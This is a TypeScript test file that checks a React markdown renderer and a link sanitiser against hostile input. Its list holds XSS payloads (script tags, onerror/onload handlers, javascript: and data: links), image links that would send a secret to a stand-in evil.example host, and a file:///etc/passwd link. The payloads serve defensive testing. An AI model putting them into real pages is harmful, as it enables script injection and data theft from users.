import fc from "fast-check";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { MarkdownBlockView } from "./markdown-block";
import { safeLink } from "./safe-link";

const render = (source: string) => renderToStaticMarkup(<MarkdownBlockView source={source} />);

const ALLOWED_TAGS = new Set(
  "a blockquote br code del em figure h2 h3 hr li ol p pre section span strong sup table tbody td th thead tr ul".split(
    " ",
  ),
);

/** Tags and attributes of rendered HTML; text is escaped, so every `<` opens a tag. */
function tagsOf(html: string): { name: string; attributes: string }[] {
  return [...html.matchAll(/<\/?([a-z0-9]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi)].map((match) => ({
    name: (match[1] ?? "").toLowerCase(),
    attributes: match[2] ?? "",
  }));
}

function expectHarmless(html: string): void {
  for (const { name, attributes } of tagsOf(html)) {
    expect(ALLOWED_TAGS.has(name), `<${name}>`).toBe(true);
    expect(attributes).not.toMatch(/\son[a-z]+=/i);
    expect(attributes).not.toMatch(/\s(src|srcset|style|action|formaction|data|background|poster)=/i);
    const href = /\shref="([^"]*)"/.exec(attributes)?.[1];
    if (href !== undefined) {
      expect(href).toMatch(/^(https?:|mailto:)/);
      expect(attributes).toMatch(/rel="noopener noreferrer nofollow"/);
    }
  }
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>1</script></svg>",
  '<iframe src="https://evil.example"></iframe>',
  "<style>body{background:url(https://evil.example)}</style>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html,<script>1</script>)",
  "[x](vbscript:1)",
  "[x](\u0001javascript:1)",
  "![x](https://evil.example/?q=secret)",
  "![x][ref]\n\n[ref]: https://evil.example/p.png",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "<a href='javascript:1'>x</a>",
  "<https://evil.example/a>",
  "<javascript:alert(1)>",
  "www.evil.example",
  '[x](https://a.example "title\\" onmouseover=alert(1)")',
  "[^1]\n\n[^1]: note ![x](//evil.example/x.png)",
  "| a |\n|---|\n| ![x](http://evil.example) |",
  "- [ ] <input onfocus=alert(1) autofocus>",
  "`<script>`",
  "[x](//evil.example)",
  "[x](/models)",
  "[x](#user-content)",
];

describe("U1 hostile markdown", () => {
  it.each(HOSTILE)("U1 draws %j without script, fetch or a hidden target", (source) => {
    expectHarmless(render(source));
  });

  it("U1 any mixture of hostile pieces stays harmless", () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.string(),
      fc.constantFrom("\n\n", "> ", "- ", "```\n", "**", "|"),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        expectHarmless(render(pieces.join("")));
      }),
      { numRuns: 300 },
    );
  });

  it("U1 shows the full target beside a link that says something else", () => {
    expect(render("[your bank](https://evil.example/login)")).toContain("(https://evil.example/login)");
    expect(render("[https://bank.example](https://evil.example/)")).toContain("(https://evil.example/)");
  });

  it("U1 shows a remote image's address and loads nothing", () => {
    const html = render("![cat](https://evil.example/p.png?q=1)");
    expect(html).not.toContain("<img");
    expect(html).toContain("https://evil.example/p.png?q=1");
  });
});

describe("safeLink", () => {
  it("lets through http, https and mail alone", () => {
    expect(safeLink("https://a.example/x")).toBe("https://a.example/x");
    expect(safeLink("mailto:a@b.example")).toBe("mailto:a@b.example");
    for (const address of [
      "javascript:1",
      "data:text/html,x",
      "file:///etc/passwd",
      "/x",
      "#x",
      "",
      "blob:https://a/1",
    ])
      expect(safeLink(address)).toBeNull();
  });
});
